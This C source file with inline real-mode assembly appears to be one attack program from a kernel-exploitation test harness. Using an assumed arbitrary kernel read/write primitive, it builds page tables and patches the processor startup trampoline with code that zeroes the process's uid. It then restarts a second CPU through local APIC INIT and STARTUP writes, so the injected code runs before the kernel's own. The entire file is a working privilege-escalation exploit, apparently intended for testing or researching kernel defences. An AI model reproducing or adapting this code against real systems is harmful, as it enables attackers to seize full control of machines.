/*
 * A processor is started anew, on code of the attacker's, by stores to the registers of this one's
 * local APIC: it runs without page tables, writes where it likes, and goes on as it did at boot.
 */
#include <string.h>
#include <unistd.h>

#include "attack.h"

enum { CPU_OF_WRITER, CPU_RESTARTED, NR_CPUS };
/* Intel SDM vol. 3A, "Interrupt Command Register (ICR)". */
enum {
	ICR = 0x300,
	ICR_TARGET = 0x310,
	ICR_INIT = 0x4500,
	ICR_STARTUP = 0x4608, /* at 0x8000, the page of the kernel's own */
	TARGET_SHIFT = 24
};
enum { START_PA = 0x8000, CODE_OFFSET = 0x800, JUMP_BYTES = 3, WAIT_US = 20000, ASLEEP_S = 1000 };
enum { TABLE_ENTRIES = 512, PRESENT_WRITABLE = 3, PRESENT_WRITABLE_2M = 0x83 };
/* Of the kernel's parameters for it, from one to the other: ap_start.c. */
enum { ROOT_TO_BOOT_ROOT = 24 };

/* Real mode. The words that are all ones are filled in. */
extern const char startup[], startup_uid[], startup_first[], startup_second[], startup_end[];
__asm__(".section .rodata\n.balign 8\n.code16\n"
	"startup:\n"
	"	cli\n"
	"	xor %ax, %ax\n"
	"	mov %ax, %ds\n"
	"	lgdtl 0x8800 + startup_gdtr - startup\n"
	"	mov %cr0, %eax\n"
	"	or $1, %al\n"
	"	mov %eax, %cr0\n"
	"	mov $8, %bx\n"
	"	mov %bx, %es\n" /* 4 GiB, and stays so in real mode */
	"	and $0xfe, %al\n"
	"	mov %eax, %cr0\n"
	"	.byte 0x66, 0xbf\nstartup_uid: .long -1\n" /* mov $..., %edi */
	"	xor %eax, %eax\n"
	"	addr32 mov %eax, %es:(%edi)\n"
	"	.byte 0x66, 0xb8\nstartup_first: .long -1\n" /* mov $..., %eax */
	"	mov %eax, 0x8000\n"
	"	.byte 0x66, 0xb8\nstartup_second: .long -1\n"
	"	mov %eax, 0x8004\n"
	"	ljmp $0x800, $0\n"
	".balign 8\n"
	"startup_gdt: .quad 0, 0x00cf92000000ffff\n"
	"startup_gdtr: .word 15\n .long 0x8800 + startup_gdt - startup\n"
	".balign 8\nstartup_end:\n.code64\n.text\n");

static void asleep(void *unused)
{
	(void)unused;
	sleep(ASLEEP_S);
}

static void write_word(uint64_t to, uint64_t value)
{
	attack_check("vuln_write", bw_vuln_write(to, value));
}

/* The first 2 MiB one to one, and the kernel's half: what boot's page tables had, which are gone.
 */
static uint64_t make_tables(const struct bw_leak *leak)
{
	uint64_t *tables = attack_pages(3 * BW_PAGE_SIZE), pa[3];
	uint64_t root = leak->direct_map_base + leak->kernel_root * BW_PAGE_SIZE;

	for (int i = 0; i < 3; i++) {
		pa[i] = attack_pfn(tables + i * TABLE_ENTRIES) * BW_PAGE_SIZE;
	}
	tables[0] = pa[1] | PRESENT_WRITABLE;
	tables[TABLE_ENTRIES] = pa[2] | PRESENT_WRITABLE;
	tables[2 * TABLE_ENTRIES] = PRESENT_WRITABLE_2M;
	for (size_t i = TABLE_ENTRIES / 2; i < TABLE_ENTRIES; i++) {
		tables[i] = (uint64_t)bw_vuln_read(root + i * sizeof(uint64_t));
	}
	return pa[0];
}

/* Has the kernel's code for processors that start use these tables. */
static void set_tables(const struct bw_leak *leak, uint64_t root_pa)
{
	for (uint64_t at = leak->start_page; at < leak->start_page + BW_PAGE_SIZE;
	     at += sizeof(uint64_t)) {
		if ((uint64_t)bw_vuln_read(at) == leak->kernel_root * BW_PAGE_SIZE) {
			attack_check("vuln_store", bw_vuln_store(at + ROOT_TO_BOOT_ROOT, root_pa,
								 sizeof(uint32_t)));
			return;
		}
	}
	attack_skip("no processor was started from there");
}

/* In front of the kernel's code, which it puts right and goes on with. */
static void place_code(const struct bw_leak *leak)
{
	uint64_t first = (uint64_t)bw_vuln_read(leak->start_page), hook = first;
	uint32_t uid = (uint32_t)leak->uid_pa, halves[2];
	char code[BW_PAGE_SIZE];
	const char jump[JUMP_BYTES] = { (char)0xe9, (char)(CODE_OFFSET - JUMP_BYTES),
					(CODE_OFFSET - JUMP_BYTES) >> 8 };
	size_t len = (size_t)(startup_end - startup);

	memcpy(code, startup, len);
	memcpy(halves, &first, sizeof(halves));
	memcpy(code + (startup_uid - startup), &uid, sizeof(uid));
	memcpy(code + (startup_first - startup), &halves[0], sizeof(halves[0]));
	memcpy(code + (startup_second - startup), &halves[1], sizeof(halves[1]));
	for (size_t at = 0; at < len; at += sizeof(uint64_t)) {
		uint64_t word;

		memcpy(&word, code + at, sizeof(word));
		write_word(leak->start_page + CODE_OFFSET + at, word);
	}
	memcpy(&hook, jump, sizeof(jump));
	write_word(leak->start_page, hook);
}

static void command(const struct bw_leak *leak, uint32_t value)
{
	bw_vuln_store(leak->apic + ICR_TARGET, (uint64_t)CPU_RESTARTED << TARGET_SHIFT,
		      sizeof(uint32_t));
	attack_check("vuln_store", bw_vuln_store(leak->apic + ICR, value, sizeof(value)));
	usleep(WAIT_US);
}

int main(void)
{
	struct bw_leak leak;

	attack_begin(&leak, NR_CPUS, CPU_OF_WRITER);
	if (leak.apic == 0 || leak.start_page == 0) {
		attack_say("nothing maps the local APIC%s",
			   leak.start_page == 0 ? ", or where processors start" : "");
		return attack_finish();
	}
	attack_say("local APIC at 0x%lx; processors start at 0x%lx, which is 0x%x", leak.apic,
		   leak.start_page, START_PA);
	/* the other processor has nothing to do, and nothing unfinished */
	attack_thread(CPU_RESTARTED, asleep, NULL);
	usleep(WAIT_US);
	set_tables(&leak, make_tables(&leak));
	place_code(&leak);
	attack_say("CPU %d starts again", CPU_RESTARTED);
	command(&leak, ICR_INIT);
	command(&leak, ICR_STARTUP);
	command(&leak, ICR_STARTUP);
	return attack_finish();
}
